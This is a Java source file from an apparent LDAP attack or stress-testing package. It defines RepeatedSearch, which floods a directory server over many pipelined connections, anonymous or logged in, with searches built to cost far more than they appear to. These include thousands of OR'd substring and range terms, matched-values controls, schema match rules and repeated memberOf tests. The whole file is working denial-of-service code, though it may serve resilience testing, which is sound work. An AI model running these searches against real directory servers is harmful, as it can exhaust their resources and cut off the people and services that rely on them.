package org.nyala.attack;

import static org.nyala.attack.Requests.BASE;
import static org.nyala.attack.Requests.SUBTREE;
import static org.nyala.attack.Requests.and;
import static org.nyala.attack.Requests.atLeast;
import static org.nyala.attack.Requests.contains;
import static org.nyala.attack.Requests.each;
import static org.nyala.attack.Requests.equal;
import static org.nyala.attack.Requests.or;
import static org.nyala.attack.Requests.rule;

import java.io.IOException;
import java.util.List;
import java.util.Optional;
import org.nyala.attack.Requests.Search;

/**
 * Some connections that repeat one request.
 *
 * @param login the account; anonymous if empty
 * @param depth requests that each connection has under way
 */
record RepeatedSearch(String name, int connections, Optional<Login> login, int depth, Search search)
    implements Attack {
  private static final int FIRST_ID = 2;
  private static final int FIRST_NUMBER = 10_000;
  private static final String VALUES_RETURN_FILTER = "1.2.826.0.1.3344810.2.3";

  @Override
  public void start(AttackRun run) {
    byte[][] messages = new byte[depth][];
    for (int i = 0; i < depth; i++) {
      messages[i] = message(FIRST_ID + i);
    }
    for (int i = 0; i < connections; i++) {
      run.start(name, () -> ask(run, messages));
    }
  }

  /** Returns the request, for values if these make it costly. */
  byte[] message(int id) {
    return search.message(id, search.controls().length == 0 ? "1.1" : "member");
  }

  private void ask(AttackRun run, byte[][] messages) throws IOException {
    Wire wire = login.isPresent() ? run.bind(login.get()) : run.connect();
    try {
      for (byte[] message : messages) {
        wire.send(message);
      }
      while (!run.isOver()) {
        Wire.Result result = wire.read();
        run.count(name, result);
        if (result.id() < FIRST_ID) {
          throw new IOException("disconnected");
        }
        wire.send(messages[result.id() - FIRST_ID]);
      }
    } finally {
      run.end(wire);
    }
  }

  private static RepeatedSearch strangers(String name, int connections, Search search) {
    return new RepeatedSearch(name, connections, Optional.empty(), 1, search);
  }

  private static RepeatedSearch user(String name, int connections, int person, Search search) {
    return new RepeatedSearch(name, connections, Optional.of(Login.of(person)), 2, search);
  }

  private static Search hostile(String entry, byte[] filter) {
    return Search.of(Login.hostile(entry).dn(), BASE, filter);
  }

  private static Search all(byte[] filter) {
    return Search.of(Login.SUFFIX, SUBTREE, filter);
  }

  /** Returns a search with many substring tests of every entry. */
  static Search slow() {
    return all(or(each(300, i -> contains("description", "zz" + i))));
  }

  /** Returns searches that cost much more than they seem to. */
  static List<RepeatedSearch> all() {
    int processors = Runtime.getRuntime().availableProcessors();
    return List.of(
        strangers("schemaTerms", 2, schemaTerms()),
        strangers("ruleTerms", 1, hostile("large", or(ruleTerms(1000)))),
        strangers("matchedValues", 1, matchedValues()),
        strangers("substrings", 1, substrings()),
        strangers("distinctRanges", 1, distinctRanges()),
        user("memberships", 1, 21, memberships()),
        user("oneUnindexed", 2, 22, all(and(equal("homeDirectory", "zzz"), range()))),
        user("equalRanges", 2, 23, equalRanges()),
        strangers("equalRangesOfStrangers", 1, equalRanges()),
        new RepeatedSearch(
            "pipelines",
            Integer.getInteger("nyala.attack.pipelines", 16 * processors),
            Optional.of(Login.of(24)),
            Integer.getInteger("nyala.attack.depth", 32),
            all(contains("description", "zzz"))));
  }

  private static byte[] range() {
    return atLeast("uidNumber", "5");
  }

  private static Search schemaTerms() {
    return Search.of("cn=Subschema", BASE, or(Ber.times(3500, rule("2.5.13.30", "9.9"))));
  }

  private static byte[] ruleTerms(int count) {
    return Ber.times(count, rule("2.5.13.1", "o=x"));
  }

  private static Search matchedValues() {
    return hostile("large", Requests.present("objectClass"))
        .withControl(VALUES_RETURN_FILTER, Ber.of(Ber.SEQUENCE, ruleTerms(100)));
  }

  private static Search substrings() {
    return hostile("uids", or(each(2000, i -> contains("memberUid", "q" + i))));
  }

  private static Search distinctRanges() {
    byte[] ranges = or(each(2400, i -> atLeast("uidNumber", Integer.toString(FIRST_NUMBER + i))));
    return all(ranges).withSizeLimit(1);
  }

  private static Search memberships() {
    byte[] member = equal("memberOf", Login.hostile("huge").dn());
    return all(and(Ber.times(40, member), equal("homeDirectory", "zzz"))).withTimeLimit(2);
  }

  private static Search equalRanges() {
    return all(or(Ber.times(4000, atLeast("gidNumber", "0")))).withSizeLimit(1);
  }
}
